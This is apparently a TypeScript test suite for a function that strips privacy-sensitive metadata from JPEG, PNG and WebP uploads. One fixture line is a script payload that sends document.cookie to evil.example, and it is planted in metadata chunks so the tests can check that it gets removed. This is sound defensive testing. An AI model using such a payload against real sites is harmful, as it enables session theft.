import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { type CleanImage, IMAGE_CONTENT_TYPES, sniffImageKind, stripImageMetadata } from "~/domain/image-files";

// The fixtures are assembled here, byte by byte, from the formats' own rules; the last tests also take real
// files written by libvips.

type Bytes = Uint8Array | readonly number[] | string;

const toBytes = (part: Bytes): Uint8Array =>
  typeof part === "string" ? Uint8Array.from(part, (char) => char.charCodeAt(0)) : Uint8Array.from(part);

function concat(...parts: Bytes[]): Uint8Array {
  const arrays = parts.map(toBytes);
  const out = new Uint8Array(arrays.reduce((size, part) => size + part.length, 0));
  let offset = 0;
  for (const part of arrays) {
    out.set(part, offset);
    offset += part.length;
  }
  return out;
}

const u16be = (n: number) => [(n >>> 8) & 0xff, n & 0xff];
const u32be = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
const u32le = (n: number) => u32be(n).reverse();

function contains(haystack: Uint8Array, needle: Bytes): boolean {
  const wanted = toBytes(needle);
  outer: for (let at = 0; at + wanted.length <= haystack.length; at++) {
    for (let index = 0; index < wanted.length; index++) if (haystack[at + index] !== wanted[index]) continue outer;
    return true;
  }
  return false;
}

/** Exif's TIFF block: IFD0 with Make, an optional Orientation and a GPS IFD holding a latitude. */
function exifTiff(order: "II" | "MM", orientation?: number): Uint8Array {
  const u16 = (n: number) => (order === "II" ? u16be(n).reverse() : u16be(n));
  const u32 = (n: number) => (order === "II" ? u32le(n) : u32be(n));
  const entry = (tag: number, type: number, count: number, value: number[]) => [...u16(tag), ...u16(type), ...u32(count), ...value];
  const entries = orientation === undefined ? 2 : 3;
  const makeAt = 8 + 2 + entries * 12 + 4;
  const gpsAt = makeAt + 6;
  const latitudeAt = gpsAt + 2 + 2 * 12 + 4;
  return concat(
    order,
    u16(42),
    u32(8),
    u16(entries),
    entry(0x010f, 2, 6, u32(makeAt)),
    orientation === undefined ? [] : entry(0x0112, 3, 1, [...u16(orientation), 0, 0]),
    entry(0x8825, 4, 1, u32(gpsAt)),
    u32(0),
    "Canon\0",
    u16(2),
    entry(0x0001, 2, 2, [0x4e, 0, 0, 0]),
    entry(0x0002, 5, 3, u32(latitudeAt)),
    u32(0),
    [...u32(52), ...u32(1), ...u32(31), ...u32(1), ...u32(1234), ...u32(100)],
  );
}

const LATITUDE = (order: "II" | "MM") => exifTiff(order).subarray(-24);

// --- JPEG -----------------------------------------------------------------------------------------------------

const segment = (marker: number, payload: Bytes) => concat([0xff, marker], u16be(toBytes(payload).length + 2), payload);

const SOI = [0xff, 0xd8];
const EOI = [0xff, 0xd9];
const JFIF = segment(0xe0, concat("JFIF\0", [1, 2, 0, 0, 1, 0, 1, 0, 0]));
const exifApp1 = (order: "II" | "MM", orientation?: number) => segment(0xe1, concat("Exif\0\0", exifTiff(order, orientation)));
const XMP = segment(0xe1, "http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><exif:GPSLatitude>52,31.2N</exif:GPSLatitude></x:xmpmeta>");
const COMMENT = segment(0xfe, "Taken at 12 Acacia Avenue");
const IPTC = segment(0xed, "Photoshop 3.0\x008BIM City=Springfield");
const MPF = segment(0xe2, "MPF\0MM second image with its own Exif");
const ICC = segment(0xe2, concat("ICC_PROFILE\0", [1, 1], "colour profile bytes"));
const ADOBE = segment(0xee, concat("Adobe", [0, 100, 0, 0, 0, 0, 1]));
const DQT = segment(0xdb, [0, ...Array.from({ length: 64 }, (_, index) => index + 1)]);
const sof = (marker: number, width: number, height: number) => segment(marker, [8, ...u16be(height), ...u16be(width), 1, 1, 0x11, 0]);
const SOF0 = sof(0xc0, 16, 8);
const DHT = segment(0xc4, [0x00, 0, 1, ...new Array<number>(14).fill(0), 0x05]);
const DRI = segment(0xdd, u16be(4));
const SOS = segment(0xda, [1, 1, 0x00, 0, 63, 0]);
// Entropy-coded data with stuffed FF 00 and a restart marker: neither ends the scan.
const ENTROPY = [0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x56, 0xff, 0x00, 0x78, 0xff, 0xd1, 0x9a];

/** The only Exif left: "MM", IFD0 with one entry, Orientation SHORT 1, no next IFD. */
const orientationOnly = (orientation: number) =>
  segment(0xe1, concat("Exif\0\0", "MM", [0, 42], u32be(8), [0, 1], [0x01, 0x12, 0, 3], u32be(1), [0, orientation, 0, 0], u32be(0)));

const phoneJpeg = concat(SOI, JFIF, exifApp1("II", 6), XMP, ICC, MPF, IPTC, COMMENT, ADOBE, DQT, SOF0, DHT, DRI, SOS, ENTROPY, EOI);

function strip(bytes: Uint8Array): CleanImage {
  const clean = stripImageMetadata(bytes);
  if (clean === null) throw new Error("expected an image");
  return clean;
}

function expectNoMetadata(bytes: Uint8Array) {
  for (const secret of ["Canon", "GPSLatitude", "Acacia", "Springfield", "8BIM", "xap/1.0", "MPF", LATITUDE("II"), LATITUDE("MM")]) {
    expect(contains(bytes, secret), String(secret)).toBe(false);
  }
}

describe("stripImageMetadata: JPEG", () => {
  it("keeps the tables, frame and scans byte for byte, the orientation alone and Adobe's colour transform, and drops the rest", () => {
    const clean = strip(phoneJpeg);
    expect(clean).toMatchObject({ kind: "jpeg", width: 16, height: 8, orientation: 6 });
    expect(clean.bytes).toEqual(concat(SOI, orientationOnly(6), ADOBE, DQT, SOF0, DHT, DRI, SOS, ENTROPY, EOI));
    expectNoMetadata(clean.bytes);
  });

  it("reads a big-endian orientation too", () => {
    const clean = strip(concat(SOI, exifApp1("MM", 8), DQT, SOF0, DHT, SOS, ENTROPY, EOI));
    expect(clean.orientation).toBe(8);
    expect(clean.bytes).toEqual(concat(SOI, orientationOnly(8), DQT, SOF0, DHT, SOS, ENTROPY, EOI));
  });

  it.each([
    ["upright", 1],
    ["absent", undefined],
    ["out of range", 9],
  ])("adds no Exif when the orientation is %s", (_label, orientation) => {
    const clean = strip(concat(SOI, JFIF, exifApp1("MM", orientation), DQT, SOF0, SOS, ENTROPY, EOI));
    expect(clean.orientation).toBe(1);
    expect(clean.bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
  });

  it("drops fill bytes between markers, and markers without a payload outside a scan", () => {
    const clean = strip(concat(SOI, [0xff, 0xff], JFIF, [0xff, 0xff, 0xff], COMMENT, [0xff, 0x01], DQT, SOF0, SOS, ENTROPY, [0xff], EOI));
    expect(clean.bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
  });

  it("cleans between the scans of a progressive JPEG and drops whatever follows EOI", () => {
    const SOF2 = sof(0xc2, 640, 480);
    const trailer = concat(SOI, exifApp1("II", 3), "an appended gain map or motion photo");
    const clean = strip(concat(SOI, JFIF, DQT, SOF2, DHT, SOS, ENTROPY, DHT, COMMENT, XMP, SOS, ENTROPY.slice(2), EOI, trailer));
    expect(clean).toMatchObject({ width: 640, height: 480, orientation: 1 });
    expect(clean.bytes).toEqual(concat(SOI, DQT, SOF2, DHT, SOS, ENTROPY, DHT, SOS, ENTROPY.slice(2), EOI));
    expectNoMetadata(clean.bytes);
  });

  it("drops the JFIF header with its thumbnail: a decoder needs neither", () => {
    const thumbnail = segment(0xe0, concat("JFIF\0", [1, 2, 0, 0, 1, 0, 1, 1, 1], [0xaa, 0xbb, 0xcc]));
    expect(strip(concat(SOI, thumbnail, DQT, SOF0, SOS, ENTROPY, EOI)).bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
  });

  it("rebuilds Adobe's segment from its colour transform alone, and drops one it cannot read", () => {
    const padded = segment(0xee, concat("Adobe", [0, 100, 0, 0, 0, 0, 1], "GPS 41.9484N <script>"));
    expect(strip(concat(SOI, padded, DQT, SOF0, SOS, ENTROPY, EOI)).bytes).toEqual(concat(SOI, ADOBE, DQT, SOF0, SOS, ENTROPY, EOI));
    const unknownTransform = segment(0xee, concat("Adobe", [0, 100, 0, 0, 0, 0, 7]));
    expect(strip(concat(SOI, unknownTransform, DQT, SOF0, SOS, ENTROPY, EOI)).bytes).toEqual(concat(SOI, DQT, SOF0, SOS, ENTROPY, EOI));
  });

  it("refuses a file cut anywhere, even just before the last byte", () => {
    for (let length = 0; length < phoneJpeg.length; length++) {
      expect(stripImageMetadata(phoneJpeg.subarray(0, length)), `first ${length} bytes`).toBeNull();
    }
  });

  it("refuses what is not a whole, sane JPEG", () => {
    const refused = {
      "no EOI": concat(SOI, JFIF, DQT, SOF0, SOS, ENTROPY),
      "no SOS": concat(SOI, JFIF, DQT, SOF0, EOI),
      "no SOF before SOS": concat(SOI, JFIF, DQT, SOS, ENTROPY, EOI),
      "a segment running past the end": concat(SOI, JFIF, [0xff, 0xdb, 0xff, 0xff], DQT, SOF0, SOS, ENTROPY, EOI),
      "a length shorter than itself": concat(SOI, [0xff, 0xdb, 0x00, 0x01], SOF0, SOS, ENTROPY, EOI),
      "garbage where a marker should be": concat(SOI, JFIF, [0x00], DQT, SOF0, SOS, ENTROPY, EOI),
      "zero width": concat(SOI, DQT, sof(0xc0, 0, 8), SOS, ENTROPY, EOI),
      "a width over 20000": concat(SOI, DQT, sof(0xc0, 20_001, 8), SOS, ENTROPY, EOI),
      "a second SOI": concat(SOI, SOI, DQT, SOF0, SOS, ENTROPY, EOI),
      "a second frame": concat(SOI, DQT, SOF0, SOF0, SOS, ENTROPY, EOI),
      "a hierarchical frame": concat(SOI, DQT, sof(0xc5, 16, 8), SOS, ENTROPY, EOI),
      "a table longer than its tables": concat(
        SOI,
        segment(0xdb, concat([0], new Array<number>(64).fill(1), "GPS")),
        SOF0,
        SOS,
        ENTROPY,
        EOI,
      ),
      "a Huffman table longer than its codes": concat(
        SOI,
        DQT,
        SOF0,
        segment(0xc4, concat([0, 0, 1], new Array<number>(14).fill(0), [5], "GPS")),
        SOS,
        ENTROPY,
        EOI,
      ),
      "a frame header longer than its components": concat(
        SOI,
        DQT,
        segment(0xc0, [8, 0, 8, 0, 16, 1, 1, 0x11, 0, 0x47]),
        SOS,
        ENTROPY,
        EOI,
      ),
      "a scan header longer than its components": concat(SOI, DQT, SOF0, segment(0xda, [1, 1, 0x00, 0, 63, 0, 0x47]), ENTROPY, EOI),
      "a restart interval of three bytes": concat(SOI, DQT, SOF0, segment(0xdd, [0, 4, 0]), SOS, ENTROPY, EOI),
    };
    for (const [label, bytes] of Object.entries(refused)) expect(stripImageMetadata(bytes), label).toBeNull();
    expect(strip(concat(SOI, DQT, sof(0xc1, 20_000, 20_000), SOS, ENTROPY, EOI))).toMatchObject({ width: 20_000, height: 20_000 });
  });
});

// --- PNG ------------------------------------------------------------------------------------------------------

function chunk(type: string, data: Bytes): Uint8Array {
  const body = concat(type, data);
  return concat(u32be(toBytes(data).length), body, u32be(crc32(body)));
}

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const ihdr = (width: number, height: number) => chunk("IHDR", [...u32be(width), ...u32be(height), 8, 6, 0, 0, 0]);
const IHDR = ihdr(2, 1);
// One row of two RGBA pixels, filter 0, really deflated and split over two IDAT chunks.
const PIXELS = deflateSync(Uint8Array.from([0, 255, 0, 0, 255, 0, 0, 255, 128]));
const IDAT1 = chunk("IDAT", PIXELS.subarray(0, 5));
const IDAT2 = chunk("IDAT", PIXELS.subarray(5));
const IEND = chunk("IEND", []);
const SRGB = chunk("sRGB", [0]);
const PHYS = chunk("pHYs", [...u32be(2835), ...u32be(2835), 1]);

const phonePng = concat(
  PNG_SIGNATURE,
  IHDR,
  SRGB,
  chunk("tEXt", "Make\0Canon"),
  chunk("tEXt", "GPSLatitude\x0052.5201"),
  chunk("zTXt", concat("Comment\0", [0], deflateSync("Taken at 12 Acacia Avenue"))),
  chunk("iTXt", "XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>xap/1.0 Springfield</x:xmpmeta>"),
  chunk("eXIf", exifTiff("MM", 6)),
  chunk("tIME", [0x07, 0xe9, 5, 4, 12, 30, 0]),
  PHYS,
  IDAT1,
  IDAT2,
  chunk("caBX", "c2pa manifest naming a Canon"),
  IEND,
);

/** The orientation in a PNG: an eXIf chunk of the same TIFF as the JPEG's. */
const orientationOnlyPng = (orientation: number) => chunk("eXIf", orientationOnly(orientation).subarray(10));

describe("stripImageMetadata: PNG", () => {
  it("keeps the image's chunks byte for byte, CRCs included, and the orientation alone, and drops the rest", () => {
    const clean = strip(phonePng);
    expect(clean).toMatchObject({ kind: "png", width: 2, height: 1, orientation: 6 });
    expect(clean.bytes).toEqual(concat(PNG_SIGNATURE, IHDR, orientationOnlyPng(6), SRGB, IDAT1, IDAT2, IEND));
    expectNoMetadata(clean.bytes);
  });

  it("keeps a palette, its transparency and the colour chunks that take no text", () => {
    const paletted = chunk("IHDR", [...u32be(2), ...u32be(1), 8, 3, 0, 0, 0]);
    const kept = [
      chunk("gAMA", u32be(45455)),
      chunk("cHRM", new Array<number>(32).fill(1)),
      chunk("PLTE", [0, 0, 0, 255, 255, 255]),
      chunk("tRNS", [0]),
    ];
    const image = chunk("IDAT", deflateSync(Uint8Array.from([0, 0, 1])));
    const bytes = concat(PNG_SIGNATURE, paletted, ...kept, chunk("bKGD", [1]), image, IEND);
    expect(strip(bytes).bytes).toEqual(concat(PNG_SIGNATURE, paletted, ...kept, image, IEND));
  });

  it("drops whatever follows IEND", () => {
    expect(strip(concat(phonePng, "GPS 52.5201 appended")).bytes).toEqual(strip(phonePng).bytes);
  });

  it("refuses a file cut anywhere", () => {
    for (let length = 0; length < phonePng.length; length++) {
      expect(stripImageMetadata(phonePng.subarray(0, length)), `first ${length} bytes`).toBeNull();
    }
  });

  it("refuses what is not a whole, sane PNG", () => {
    const refused = {
      "no IEND": concat(PNG_SIGNATURE, IHDR, IDAT1, IDAT2),
      "no IDAT": concat(PNG_SIGNATURE, IHDR, SRGB, IEND),
      "IHDR not first": concat(PNG_SIGNATURE, SRGB, IHDR, IDAT1, IEND),
      "two IHDRs": concat(PNG_SIGNATURE, IHDR, IHDR, IDAT1, IEND),
      "a chunk running past the end": concat(PNG_SIGNATURE, IHDR, u32be(0x7fff_0000), "IDAT", IDAT1, IEND),
      "zero height": concat(PNG_SIGNATURE, ihdr(2, 0), IDAT1, IEND),
      "a width over 20000": concat(PNG_SIGNATURE, ihdr(20_001, 1), IDAT1, IEND),
      "a critical chunk no decoder knows": concat(PNG_SIGNATURE, IHDR, chunk("HIDE", "GPS 41.9484N"), IDAT1, IDAT2, IEND),
      "an sRGB chunk longer than its one byte": concat(
        PNG_SIGNATURE,
        IHDR,
        chunk("sRGB", [0, ...toBytes("GPS 41.9484N")]),
        IDAT1,
        IDAT2,
        IEND,
      ),
      "transparency for a colour type that has its own": concat(PNG_SIGNATURE, IHDR, chunk("tRNS", [0, 0]), IDAT1, IDAT2, IEND),
      "a palette image without a palette": concat(PNG_SIGNATURE, chunk("IHDR", [...u32be(2), ...u32be(1), 8, 3, 0, 0, 0]), IDAT1, IEND),
      "a bit depth its colour type does not have": concat(
        PNG_SIGNATURE,
        chunk("IHDR", [...u32be(2), ...u32be(1), 4, 6, 0, 0, 0]),
        IDAT1,
        IEND,
      ),
      "an IEND with data": concat(PNG_SIGNATURE, IHDR, IDAT1, IDAT2, chunk("IEND", "GPS")),
    };
    for (const [label, bytes] of Object.entries(refused)) expect(stripImageMetadata(bytes), label).toBeNull();
  });
});

// --- WebP -----------------------------------------------------------------------------------------------------

const riffChunk = (fourcc: string, data: Bytes) => {
  const size = toBytes(data).length;
  return concat(fourcc, u32le(size), data, size % 2 ? [0] : []);
};
const webp = (...chunks: Uint8Array[]) => {
  const body = concat("WEBP", ...chunks);
  return concat("RIFF", u32le(body.length), body);
};
const u24le = (n: number) => u32le(n).slice(0, 3);

const VP8_640x480 = riffChunk("VP8 ", [0x50, 0x2a, 0x00, 0x9d, 0x01, 0x2a, ...u16be(640).reverse(), ...u16be(480).reverse(), 1, 2, 3]);
const ICCP = riffChunk("ICCP", "odd-sized colour profile");
const vp8x = (flags: number, width: number, height: number) =>
  riffChunk("VP8X", [flags, 0, 0, 0, ...u24le(width - 1), ...u24le(height - 1)]);

const phoneWebp = webp(
  vp8x(0x20 | 0x08 | 0x04, 640, 480),
  ICCP,
  VP8_640x480,
  riffChunk("EXIF", exifTiff("II", 6)),
  riffChunk("XMP ", "<x:xmpmeta>xap/1.0 GPSLatitude 52.5201</x:xmpmeta>"),
);

/** The orientation in a WebP: an EXIF chunk of the same TIFF as the JPEG's. */
const orientationOnlyWebp = (orientation: number) => riffChunk("EXIF", orientationOnly(orientation).subarray(10));

describe("stripImageMetadata: WebP", () => {
  it("keeps the image chunk and the orientation alone, sets VP8X's flags to match and rewrites the RIFF size", () => {
    const clean = strip(phoneWebp);
    expect(clean).toMatchObject({ kind: "webp", width: 640, height: 480, orientation: 6 });
    expect(clean.bytes).toEqual(webp(vp8x(0x08, 640, 480), VP8_640x480, orientationOnlyWebp(6)));
    expect(new DataView(clean.bytes.buffer, clean.bytes.byteOffset).getUint32(4, true)).toBe(clean.bytes.length - 8);
    expectNoMetadata(clean.bytes);
  });

  it("reads the size of a simple lossy and a simple lossless file, and leaves them as they are", () => {
    const lossy = webp(VP8_640x480);
    expect(strip(lossy)).toEqual({ kind: "webp", bytes: lossy, width: 640, height: 480, orientation: 1 });
    const bits = (3000 - 1) | ((2000 - 1) << 14) | (1 << 28);
    const lossless = webp(riffChunk("VP8L", [0x2f, ...u32le(bits), 0x07, 0x00]));
    expect(strip(lossless)).toEqual({ kind: "webp", bytes: lossless, width: 3000, height: 2000, orientation: 1 });
  });

  it("drops whatever follows the RIFF", () => {
    expect(strip(concat(phoneWebp, "EXIF appended Canon")).bytes).toEqual(strip(phoneWebp).bytes);
  });

  it("refuses a file cut anywhere", () => {
    for (let length = 0; length < phoneWebp.length; length++) {
      expect(stripImageMetadata(phoneWebp.subarray(0, length)), `first ${length} bytes`).toBeNull();
    }
  });

  it("refuses what is not a whole, sane WebP", () => {
    const refused = {
      "no image chunk": webp(vp8x(0x20, 640, 480), ICCP),
      "metadata first": webp(riffChunk("EXIF", exifTiff("II")), VP8_640x480),
      "VP8X not first": webp(VP8_640x480, vp8x(0, 640, 480)),
      "a chunk running past the RIFF": webp(concat("VP8 ", u32le(1000)), VP8_640x480),
      "a bad VP8 start code": webp(riffChunk("VP8 ", [0x50, 0x2a, 0x00, 0x9d, 0x01, 0x2b, 0x80, 0x02, 0xe0, 0x01])),
      "a bad VP8L signature": webp(riffChunk("VP8L", [0x2e, 0, 0, 0, 0])),
      "a canvas over 20000": webp(vp8x(0, 20_001, 10), VP8_640x480),
      "a canvas the image does not fill": webp(vp8x(0, 641, 480), VP8_640x480),
      "a VP8X longer than its fields": webp(riffChunk("VP8X", concat([0, 0, 0, 0], u24le(639), u24le(479), "GPS")), VP8_640x480),
      "two images": webp(vp8x(0, 640, 480), VP8_640x480, VP8_640x480),
      "an animation": webp(
        vp8x(0x02, 640, 480),
        riffChunk("ANIM", [0, 0, 0, 0, 0, 0]),
        riffChunk("ANMF", concat(new Array<number>(16).fill(0), VP8_640x480)),
      ),
    };
    for (const [label, bytes] of Object.entries(refused)) expect(stripImageMetadata(bytes), label).toBeNull();
  });
});

// --- Real images carrying what a viewer does not need -----------------------------------------------------------

// Real files, written and read back by libvips (sharp, which wrangler's local runtime brings): what is
// kept must still decode to the very same pixels, the right way up.
const GPS = "GPSLatitude 41.9484N GPSLongitude 87.6553W";
const SCRIPT = "<script>fetch('https://evil.example/?'+document.cookie)</script>";
const WIDTH = 24;
const HEIGHT = 16;

function rgbaPixels(): Buffer {
  const pixels = Buffer.alloc(WIDTH * HEIGHT * 4);
  for (let index = 0; index < WIDTH * HEIGHT; index++)
    pixels.set([(index * 7) % 256, (index * 13) % 256, (index * 29) % 256, 128 + (index % 128)], index * 4);
  return pixels;
}

function encode(format: "jpeg" | "png" | "webp") {
  const image = sharp(rgbaPixels(), { raw: { width: WIDTH, height: HEIGHT, channels: 4 } });
  return image[format]().toBuffer();
}
const decoded = (bytes: Uint8Array) => sharp(bytes).raw().toBuffer();

function expectCarriesNothing(bytes: Uint8Array) {
  for (const secret of [GPS, SCRIPT, "GPS", "<script", "Canon"]) expect(contains(bytes, secret), secret).toBe(false);
}

/** The markers of a JPEG, in order, checking that each segment's length lands on the next marker. */
function jpegMarkers(bytes: Uint8Array): number[] {
  expect([...bytes.subarray(0, 2)]).toEqual(SOI);
  const markers: number[] = [];
  let at = 2;
  for (;;) {
    expect(bytes[at], `a marker at ${at}`).toBe(0xff);
    const marker = bytes[at + 1]!;
    markers.push(marker);
    if (marker === 0xd9) break;
    at += 2 + ((bytes[at + 2]! << 8) | bytes[at + 3]!);
    if (marker === 0xda)
      while (at < bytes.length && !(bytes[at] === 0xff && bytes[at + 1] !== 0 && !(bytes[at + 1]! >= 0xd0 && bytes[at + 1]! <= 0xd7))) at++;
  }
  expect(at + 2, "EOI ends the file").toBe(bytes.length);
  return markers;
}

/** The chunks of a PNG, in order, checking every length and CRC. */
function pngChunks(bytes: Uint8Array): string[] {
  expect([...bytes.subarray(0, 8)]).toEqual(PNG_SIGNATURE);
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const types: string[] = [];
  for (let at = 8; at < bytes.length;) {
    const length = view.getUint32(at);
    types.push(String.fromCharCode(...bytes.subarray(at + 4, at + 8)));
    expect(view.getUint32(at + 8 + length), `CRC of ${types.at(-1)}`).toBe(crc32(bytes.subarray(at + 4, at + 8 + length)));
    at += 12 + length;
  }
  expect(types.at(-1)).toBe("IEND");
  return types;
}

/** The chunks of a WebP, in order, checking the RIFF size and every chunk's. */
function webpChunks(bytes: Uint8Array): string[] {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  expect(view.getUint32(4, true)).toBe(bytes.length - 8);
  const fourccs: string[] = [];
  let at = 12;
  while (at < bytes.length) {
    fourccs.push(String.fromCharCode(...bytes.subarray(at, at + 4)));
    const size = view.getUint32(at + 4, true);
    at += 8 + size + (size % 2);
  }
  expect(at).toBe(bytes.length);
  return fourccs;
}

/** A JPEG from its first table on, past the APPn segments before it. */
function jpegFromTables(bytes: Uint8Array) {
  let at = 2;
  while (bytes[at + 1]! >= 0xe0) at += 2 + ((bytes[at + 2]! << 8) | bytes[at + 3]!);
  return bytes.subarray(at);
}

describe("stripImageMetadata keeps only what shows the picture", () => {
  it("JPEG: nothing of unknown APPn, ICC, Adobe padding, JPGn, comments or Exif survives; the pixels and orientation do", async () => {
    const original = await encode("jpeg");
    const image = jpegFromTables(original);
    const sos = image.findIndex((byte, index) => byte === 0xff && image[index + 1] === 0xda);
    const hostile = concat(
      SOI,
      segment(0xe0, concat("JFXX\0", [0x10], GPS)),
      segment(0xe1, concat("Exif\0\0", exifTiff("II", 6), GPS)),
      segment(0xe1, concat("http://ns.adobe.com/xap/1.0/\0", SCRIPT)),
      segment(0xe2, concat("ICC_PROFILE\0", [1, 1], GPS, SCRIPT)),
      segment(0xe3, concat("META\0", GPS)),
      segment(0xeb, concat("JP", [0, 0], "jumb c2pa ", SCRIPT)),
      segment(0xee, concat("Adobe", [0, 100, 0, 0, 0, 0, 1], GPS)),
      segment(0xef, SCRIPT),
      segment(0xf0, GPS),
      segment(0xfd, SCRIPT),
      segment(0xfe, GPS),
      image.subarray(0, sos),
      segment(0xfe, SCRIPT),
      segment(0xe4, GPS),
      image.subarray(sos),
      GPS,
    );
    const clean = strip(hostile);
    expectCarriesNothing(clean.bytes);
    expect(clean).toMatchObject({ kind: "jpeg", width: WIDTH, height: HEIGHT, orientation: 6 });
    expect(clean.bytes).toEqual(concat(SOI, orientationOnly(6), ADOBE, image));
    expect(jpegMarkers(clean.bytes)).toEqual([0xe1, 0xee, ...jpegMarkers(concat(SOI, image))]);
    expect(await decoded(clean.bytes)).toEqual(await decoded(original));
    expect(await sharp(clean.bytes).metadata()).toMatchObject({ format: "jpeg", width: WIDTH, height: HEIGHT, orientation: 6 });
  });

  it("PNG: nothing of text, eXIf, an ICC profile's name, or chunks no viewer needs survives; the pixels and orientation do", async () => {
    const original = await encode("png");
    const chunks = pngChunks(original);
    expect(chunks[0]).toBe("IHDR");
    const ihdrEnd = 8 + 25;
    const iendAt = original.length - 12;
    const hostile = concat(
      original.subarray(0, ihdrEnd),
      chunk("tEXt", concat("Comment\0", GPS)),
      chunk("iTXt", concat("XML:com.adobe.xmp\0\0\0\0\0", SCRIPT)),
      chunk("eXIf", concat(exifTiff("MM", 6), GPS)),
      chunk("iCCP", concat(GPS, [0, 0], deflateSync(SCRIPT))),
      chunk("prVt", concat(GPS, SCRIPT)),
      chunk("caBX", SCRIPT),
      chunk("sPLT", concat(GPS, [0, 8], [1, 2, 3, 4, 0, 1])),
      original.subarray(ihdrEnd, iendAt),
      chunk("zTXt", concat("Comment\0", [0], deflateSync(GPS))),
      chunk("tIME", [0x07, 0xe9, 5, 4, 12, 30, 0]),
      chunk("teXt", GPS),
      original.subarray(iendAt),
      SCRIPT,
    );
    const clean = strip(hostile);
    expectCarriesNothing(clean.bytes);
    expect(clean).toMatchObject({ kind: "png", width: WIDTH, height: HEIGHT, orientation: 6 });
    expect(pngChunks(clean.bytes)).toEqual(["IHDR", "eXIf", ...chunks.filter((type) => ["IDAT", "IEND"].includes(type))]);
    expect(await decoded(clean.bytes)).toEqual(await decoded(original));
    expect(await sharp(clean.bytes).metadata()).toMatchObject({ format: "png", width: WIDTH, height: HEIGHT, orientation: 6 });
  });

  it("WebP: nothing of ICCP, EXIF, XMP or unknown chunks survives; VP8X says what is left; the pixels and orientation do", async () => {
    const original = await encode("webp");
    expect(webpChunks(original)).toEqual(["VP8X", "ALPH", "VP8 "]);
    const alphAt = 12 + 18;
    const hostile = webp(
      vp8x(0x20 | 0x10 | 0x08 | 0x04, WIDTH, HEIGHT),
      riffChunk("ICCP", concat(GPS, SCRIPT)),
      riffChunk("JUNK", GPS),
      original.subarray(alphAt),
      riffChunk("EXIF", concat(exifTiff("II", 6), GPS)),
      riffChunk("XMP ", SCRIPT),
      riffChunk("C2PA", SCRIPT),
      riffChunk("SCRT", concat(GPS, SCRIPT)),
    );
    const clean = strip(concat(hostile, GPS));
    expectCarriesNothing(clean.bytes);
    expect(clean).toMatchObject({ kind: "webp", width: WIDTH, height: HEIGHT, orientation: 6 });
    expect(webpChunks(clean.bytes)).toEqual(["VP8X", "ALPH", "VP8 ", "EXIF"]);
    expect(clean.bytes).toEqual(webp(vp8x(0x10 | 0x08, WIDTH, HEIGHT), original.subarray(alphAt), orientationOnlyWebp(6)));
    expect(await decoded(clean.bytes)).toEqual(await decoded(original));
    expect(await sharp(clean.bytes).metadata()).toMatchObject({
      format: "webp",
      width: WIDTH,
      height: HEIGHT,
      orientation: 6,
      hasAlpha: true,
    });
  });
});

// --- All kinds ------------------------------------------------------------------------------------------------

describe("sniffImageKind", () => {
  it("names a file by its first bytes", () => {
    expect(sniffImageKind(phoneJpeg)).toBe("jpeg");
    expect(sniffImageKind(phonePng)).toBe("png");
    expect(sniffImageKind(phoneWebp)).toBe("webp");
    expect(IMAGE_CONTENT_TYPES).toEqual({ jpeg: "image/jpeg", png: "image/png", webp: "image/webp" });
  });

  it.each([
    ["GIF", toBytes("GIF89a\x01\x00\x01\x00")],
    ["PDF", toBytes("%PDF-1.7\n")],
    ["WAV", concat("RIFF", u32le(4), "WAVE")],
    ["HTML", toBytes("<!doctype html>")],
    ["empty", new Uint8Array()],
    ["a lone SOI", Uint8Array.from(SOI)],
  ])("knows no %s", (_label, bytes) => {
    expect(sniffImageKind(bytes)).toBeNull();
    expect(stripImageMetadata(bytes)).toBeNull();
  });
});

describe("stripImageMetadata: all kinds", () => {
  const fixtures = { jpeg: phoneJpeg, png: phonePng, webp: phoneWebp };

  it.each(Object.entries(fixtures))("leaves a cleaned %s as it is", (_kind, bytes) => {
    const once = strip(bytes);
    expect(strip(once.bytes)).toEqual(once);
  });

  it.each(Object.entries(fixtures))("reads a %s that is a view into a larger buffer", (_kind, bytes) => {
    const view = concat([1, 2, 3], bytes, [4]).subarray(3, 3 + bytes.length);
    expect(strip(view)).toEqual(strip(bytes));
  });

  it.each(Object.entries(fixtures))("never throws on a damaged %s, and what it accepts is clean", (_kind, bytes) => {
    let seed = 0x2545f491;
    const random = (below: number) => {
      seed ^= seed << 13;
      seed ^= seed >>> 17;
      seed ^= seed << 5;
      return (seed >>> 0) % below;
    };
    for (let round = 0; round < 500; round++) {
      const damaged = bytes.slice();
      for (let flips = 1 + random(4); flips > 0; flips--) damaged[random(damaged.length)] = random(256);
      const clean = stripImageMetadata(damaged);
      if (clean !== null) expect(strip(clean.bytes)).toEqual(clean);
    }
  });
});
